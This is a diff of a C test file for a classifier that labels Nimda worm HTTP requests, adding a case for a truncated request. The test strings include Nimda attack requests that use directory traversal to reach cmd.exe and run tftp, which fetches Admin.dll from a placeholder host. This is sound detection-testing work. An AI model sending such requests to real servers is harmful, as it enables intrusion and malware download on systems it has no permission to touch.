@@ -100,6 +100,9 @@ static void test_nimda_scan(void)
     check_str(classify("GET /scripts/root.exe?/c+tftp -i 192.0.2.1 GET "
                        "Admin.dll c:\\Admin.dll HTTP/1.0"), "nimda",
               "nimda tftp follow-up with raw spaces");
+    /* httpd rejects that line and keeps only this much of it */
+    check_str(classify("GET /scripts/root.exe?/c+tftp -i"), "nimda",
+              "nimda tftp follow-up as httpd cuts it");
     check_str(classify("GET /scripts/..%c1%1c../winnt/system32/cmd.exe?"
                        "/c+tftp%20-i%20192.0.2.1%20GET%20Admin.dll%20"
                        "c:\\Admin.dll HTTP/1.0"), "nimda",
